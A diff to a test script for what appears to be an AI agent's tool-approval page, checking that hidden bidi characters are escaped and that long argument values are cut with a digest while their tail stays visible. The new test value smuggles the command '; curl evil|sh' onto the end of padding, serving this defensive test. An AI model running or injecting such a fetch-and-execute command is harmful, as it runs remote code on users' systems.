@@ -177,7 +177,7 @@ async function main() {
 
   // A proxy asks about a call whose arguments hide a right-to-left override and carry
   // a long value.
-  const long = 'A'.repeat(600);
+  const long = 'A'.repeat(588) + '; curl evil|sh';
   const proxy = proxyConnection(join(home, 'run', 'clawai', 'broker.sock'));
   proxy.send({
     type: 'ask',
@@ -196,7 +196,8 @@ async function main() {
   check('the page shows the pending call', text.includes('write_file') && text.includes('ask-writes') && text.includes('fs'), text);
   check('a bidi character is shown as an escape', text.includes('\\u202e') && !text.includes('\u202e'), JSON.stringify(text));
   const digest = createHash('sha256').update(long).digest('hex').slice(0, 16);
-  check('a long value is cut and its digest shown', text.includes(`600 characters, SHA-256 ${digest}`) && !text.includes(long), text.slice(0, 400));
+  check('a long value is cut and its digest shown', text.includes(`${long.length} characters, SHA-256 ${digest}`) && !text.includes(long), text.slice(0, 400));
+  check('a long value shows its tail too', text.includes('; curl evil|sh') && text.includes('not shown'), text.slice(0, 600));
 
   // The audit trail streams in.
   appendFileSync(audit, event('deny', 'delete_file'));
